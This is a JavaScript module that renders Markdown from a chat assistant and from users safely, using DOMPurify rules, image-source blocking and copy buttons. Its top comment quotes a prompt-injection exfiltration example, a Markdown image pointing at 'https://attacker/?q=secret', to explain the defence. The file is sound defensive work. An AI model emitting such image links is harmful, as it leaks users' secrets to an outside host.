// Safe Markdown rendering: model output and user text are untrusted on every path.
// marked turns Markdown into HTML, DOMPurify removes anything that could run, and nothing in
// the result may fetch a URL: a prompt-injected ![](https://attacker/?q=secret) requests nothing.
"use strict";

(function () {
  const PURIFY_CONFIG = {
    USE_PROFILES: { html: true },
    FORBID_TAGS: [
      "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed",
      "svg", "math", "audio", "video", "source", "track", "picture", "link", "meta", "base",
    ],
    FORBID_ATTR: ["style", "srcset", "poster", "background", "ping", "action", "formaction"],
    // Links may point to the web, mail or this page; javascript: and other schemes are dropped.
    ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  };
  const IMAGE_DATA_URL = /^data:image\/(?:png|gif|jpe?g|webp);/i;

  // Only inline (data:) images survive: any other src, even on this site, would be a request.
  DOMPurify.addHook("uponSanitizeAttribute", function (node, data) {
    if (data.attrName === "src" && !(node.nodeName === "IMG" && IMAGE_DATA_URL.test(data.attrValue))) {
      data.keepAttr = false;
    }
  });
  DOMPurify.addHook("afterSanitizeAttributes", function (node) {
    if (node.nodeName === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
    if (node.nodeName === "IMG" && !node.hasAttribute("src")) node.setAttribute("data-blocked", "");
  });

  function escapeText(text) {
    const div = document.createElement("div");
    div.textContent = text;
    return div.innerHTML;
  }

  // Raw HTML written in the Markdown is shown as text, like any chat does: only marked's own
  // tags reach DOMPurify, which still checks them (links, image sources, anything missed).
  const markdown = {
    parser: new marked.Marked({
      gfm: true,
      breaks: false,
      async: false,
      renderer: { html: (token) => escapeText(token.text) },
    }),
    parse(text) {
      return this.parser.parse(text);
    },
  };

  // Sanitised HTML for Markdown text, also for half-finished Markdown mid-stream. If marked
  // fails, the text is shown escaped; either way the HTML passes through DOMPurify.
  function markdownToSafeHtml(text) {
    let html;
    try {
      html = markdown.parse(text);
    } catch (error) {
      html = "<pre>" + escapeText(text) + "</pre>";
    }
    return DOMPurify.sanitize(html, PURIFY_CONFIG);
  }

  // The Clipboard API needs a secure context; a LAN address over plain HTTP has none.
  async function copyText(text) {
    if (navigator.clipboard && window.isSecureContext) return navigator.clipboard.writeText(text);
    const area = document.createElement("textarea");
    area.value = text;
    area.setAttribute("readonly", "");
    area.className = "offscreen";
    document.body.appendChild(area);
    area.select();
    const copied = document.execCommand("copy");
    area.remove();
    if (!copied) throw new Error("copy refused");
  }

  function addCopyButton(target, getText, label, className) {
    const button = document.createElement("button");
    button.type = "button";
    button.className = className || "copy small";
    button.textContent = label;
    button.addEventListener("click", async function () {
      try {
        await copyText(getText());
        button.textContent = "Copied";
      } catch (error) {
        button.textContent = "Copy failed";
      }
      setTimeout(function () { button.textContent = label; }, 1500);
    });
    target.appendChild(button);
    return button;
  }

  // A blocked image becomes a visible note, so the reader knows something was left out.
  function replaceBlockedImages(element) {
    element.querySelectorAll("img[data-blocked]").forEach(function (image) {
      const note = document.createElement("span");
      note.className = "blocked-image";
      const alt = image.getAttribute("alt");
      note.textContent = alt ? `[image not loaded: ${alt}]` : "[image not loaded]";
      image.replaceWith(note);
    });
  }

  // A fenced code block gets a head with its language and a copy button, and highlighting.
  function decorateCode(code) {
    try {
      window.hljs.highlightElement(code);
    } catch (error) {
      /* highlighting is decoration: the sanitised text is already there */
    }
    const pre = code.parentElement;
    const block = document.createElement("div");
    block.className = "code-block";
    const head = document.createElement("div");
    head.className = "code-head";
    const language = document.createElement("span");
    language.textContent = (code.className.match(/\blanguage-([\w+#.-]+)/) || [])[1] || "code";
    head.appendChild(language);
    addCopyButton(head, function () { return code.textContent; }, "Copy code", "copy code-copy small");
    pre.replaceWith(block);
    block.append(head, pre);
  }

  function decorate(element) {
    replaceBlockedImages(element);
    element.querySelectorAll("pre > code").forEach(decorateCode);
  }

  // Render into an element: sanitised HTML, highlighted code, a copy button per code block.
  // Any failure on the way leaves plain text, never unsanitised HTML.
  function renderMarkdown(element, text) {
    try {
      element.innerHTML = markdownToSafeHtml(text);
      decorate(element);
    } catch (error) {
      element.classList.add("plain");
      element.textContent = text;
    }
  }

  // `markdown` is exported so a test can make the parser fail and watch the fallback.
  window.chatsiteRender = { renderMarkdown, markdownToSafeHtml, addCopyButton, markdown };
})();
